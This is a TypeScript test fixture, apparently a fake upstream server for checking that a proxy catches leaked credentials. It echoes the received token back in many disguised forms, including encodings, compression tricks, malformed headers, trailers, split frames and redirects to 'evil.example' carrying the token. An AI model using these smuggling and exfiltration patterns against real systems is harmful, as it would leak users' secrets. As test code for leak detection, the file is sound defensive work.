import { createHash } from "node:crypto"
import type { Socket } from "node:net"
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from "node:zlib"

/**
 * The upstream that every connection meets: a lenient HTTP/1.1 server. It reads as many requests as it can find in
 * what it gets, tells `onRequest` of each, and answers by path; `/echo/*` gives back the credential it was sent.
 */
export function serve(socket: Socket, onRequest: (head: string, body: Buffer) => void): void {
  let held = Buffer.alloc(0)
  let upgraded = false
  socket.on("data", (chunk: Buffer) => {
    if (upgraded) return
    held = Buffer.concat([held, chunk])
    for (;;) {
      const end = held.indexOf("\r\n\r\n")
      if (end === -1) return
      const head = held.toString("latin1", 0, end)
      const length = Number(/^content-length:\s*(\d+)/im.exec(head)?.[1] ?? 0)
      const chunked = /^transfer-encoding:.*chunked/im.test(head)
      const close = chunked ? held.indexOf("\r\n0\r\n\r\n", end) : end + 4 + length
      if (close === -1 || held.length < close) return
      const body = held.subarray(end + 4, close)
      held = held.subarray(chunked ? close + 7 : close)
      onRequest(head, Buffer.from(body))
      const [, method = "", path = ""] = /^(\S+) (\S+)/.exec(head) ?? []
      upgraded = answer(socket, method, path, head)
      if (upgraded) return
    }
  })
}

/** Write an answer; true when the connection is no longer HTTP. */
function answer(socket: Socket, method: string, path: string, head: string): boolean {
  const credential = /^(?:authorization|x-api-key):\s*(?:Bearer )?(.*)$/im.exec(head)?.[1] ?? ""
  const route = path.replace(/^https?:\/\/[^/]+/, "")
  const how = /^\/(?:public\/)?echo\/([a-z0-9-]+)/.exec(route)?.[1]
  if (how !== undefined) return echo(socket, how, credential, head)
  if (route.startsWith("/public/redirect")) {
    const to = new URL(route, "http://x").searchParams.get("to") ?? ""
    reply(socket, "302 Found", "", [`Location: ${to}`])
  } else if (route.startsWith("/public/stream")) {
    stream(socket)
  } else if (route.startsWith("/public/false-101")) {
    socket.write("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: anything\r\n\r\n")
    return true
  } else if (/^upgrade:\s*websocket/im.test(head)) {
    return webSocket(socket, head, credential)
  } else {
    reply(socket, "200 OK", method === "HEAD" ? "" : "upstream says hello\n")
  }
  return false
}

const reply = (socket: Socket, status: string, body: string | Buffer, more: readonly string[] = []) => {
  const bytes = Buffer.from(body)
  socket.write(`HTTP/1.1 ${[status, `Content-Length: ${bytes.length}`, ...more].join("\r\n")}\r\n\r\n`)
  socket.write(bytes)
}

const coders: Readonly<Record<string, (text: string) => string>> = {
  body: (text) => text,
  base64: (text) => Buffer.from(text).toString("base64"),
  "base64-1": (text) => Buffer.from(`x${text}`).toString("base64"),
  "base64-2": (text) => Buffer.from(`xx${text}`).toString("base64"),
  base64url: (text) => Buffer.from(text).toString("base64url"),
  hex: (text) => Buffer.from(text).toString("hex"),
  "hex-upper": (text) => Buffer.from(text).toString("hex").toUpperCase(),
  percent: (text) => Buffer.from(text).toString("hex").replace(/../g, "%$&"),
  reversed: (text) => [...text].reverse().join(""),
  json: (text) => JSON.stringify({ headers: { authorization: text } }),
  basic: (text) => Buffer.from(`user:${text}`).toString("base64"),
}
const codings: Readonly<Record<string, readonly [string, (bytes: Buffer) => Buffer]>> = {
  gzip: ["gzip", gzipSync],
  deflate: ["deflate", deflateSync],
  br: ["br", brotliCompressSync],
  "gzip-twice": ["gzip, gzip", (bytes) => gzipSync(gzipSync(bytes))],
  "unknown-coding": ["x-bottle", (bytes) => Buffer.from([...bytes].reverse())],
  "gzip-members": ["gzip", (bytes) => Buffer.concat([gzipSync("first member "), gzipSync(bytes)])],
  "gzip-and-more": ["gzip", (bytes) => Buffer.concat([gzipSync("first member "), bytes])],
  "upper-case": ["GZip", gzipSync],
  "x-gzip": ["x-gzip", gzipSync],
  "raw-deflate": ["deflate", deflateRawSync],
  "coding-twice": ["gzip\r\nContent-Encoding: identity", gzipSync],
  "empty-coding": ["", gzipSync],
  "lying-coding": ["gzip", (bytes) => bytes],
  "hidden-gzip": ["identity", gzipSync],
}

/** Give the credential back, in one of the ways an upstream may. */
function echo(socket: Socket, how: string, credential: string, head: string): boolean {
  const coder = coders[how]
  const coding = codings[how]
  if (coder !== undefined) reply(socket, "200 OK", coder(credential))
  else if (coding !== undefined) {
    reply(socket, "200 OK", coding[1](Buffer.from(credential)), [`Content-Encoding: ${coding[0]}`])
  } else if (how === "header") reply(socket, "200 OK", "", [`X-You-Sent: ${credential}`])
  else if (how === "cookie") reply(socket, "200 OK", "", [`Set-Cookie: s=${credential}; Path=/`])
  else if (how === "location") reply(socket, "302 Found", "", [`Location: https://evil.example/?t=${credential}`])
  else if (how === "reason") reply(socket, `400 no such token ${credential}`, "")
  else if (how === "error") reply(socket, "500 Internal Server Error", `<pre>${credential}</pre>`)
  else if (how === "interim") {
    socket.write(`HTTP/1.1 103 Early Hints\r\nLink: <${credential}>\r\n\r\n`)
    reply(socket, "200 OK", "after hints")
  } else if (how === "header-name") reply(socket, "200 OK", "", [`X-${credential.replace(/[^A-Za-z0-9-]/g, "")}: 1`])
  else if (how === "trailer") {
    socket.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Token\r\n\r\n")
    socket.write(`2\r\nok\r\n0\r\nX-Token: ${credential}\r\n\r\n`)
  } else if (how === "chunk-extension") {
    socket.write("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
    socket.write(`2;t=${credential}\r\nok\r\n0\r\n\r\n`)
  } else if (how === "chunks") slices(socket, credential, true)
  else if (how === "slices") slices(socket, credential, false)
  else if (how === "folded") socket.write(`HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX-A: b\r\n\t${credential}\r\n\r\n`)
  else if (how === "bare-lf") socket.write(`HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX-A: b\n${credential}: x\r\n\r\n`)
  else if (how === "old") socket.end(`HTTP/1.0 200 OK\r\n\r\n${credential}`)
  else if (how === "early") socket.write(`HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok${credential}`)
  else if (how === "no-content") socket.write(`HTTP/1.1 204 No Content\r\n\r\n${credential}`)
  else if (how === "refresh")
    reply(socket, "200 OK", "", [`Refresh: 0;url=https://evil.example/?t=${encodeURIComponent(credential)}`])
  else if (how === "range" && /^range:/im.test(head)) {
    reply(socket, "206 Partial Content", credential.slice(0, 12), ["Content-Range: bytes 0-11/64"])
  } else reply(socket, "200 OK", "nothing to see")
  return false
}

/** One byte a write, as chunks or plain, so that nothing arrives whole. */
function slices(socket: Socket, text: string, chunked: boolean): void {
  const framing = chunked ? "Transfer-Encoding: chunked" : `Content-Length: ${text.length}`
  socket.write(`HTTP/1.1 200 OK\r\n${framing}\r\n\r\n`)
  const next = (at: number) => {
    if (at >= text.length) return chunked ? void socket.write("0\r\n\r\n") : undefined
    socket.write(chunked ? `1\r\n${text[at]}\r\n` : (text[at] ?? ""), () => setTimeout(next, 2, at + 1))
  }
  next(0)
}

/** Events without end, until someone closes. */
function stream(socket: Socket): void {
  socket.write("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
  let count = 0
  const timer = setInterval(() => socket.write(chunkOf(`data: tick ${++count}\n\n`)), 20)
  socket.on("close", () => clearInterval(timer))
}

const chunkOf = (text: string) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`

function webSocket(socket: Socket, head: string, credential: string): boolean {
  const key = /^sec-websocket-key:\s*(\S+)/im.exec(head)?.[1] ?? ""
  const accept = createHash("sha1").update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest("base64")
  socket.write(
    `HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
  )
  // In two fragments of one message, unless it is asked for whole.
  const bytes = Buffer.from(credential)
  const middle = head.includes("/ws/whole") ? 0 : bytes.length >> 1
  const frame = (first: number, part: Buffer) => Buffer.concat([Buffer.from([first, part.length]), part])
  socket.write(frame(0x01, bytes.subarray(0, middle)))
  socket.write(frame(0x80, bytes.subarray(middle)))
  return true
}
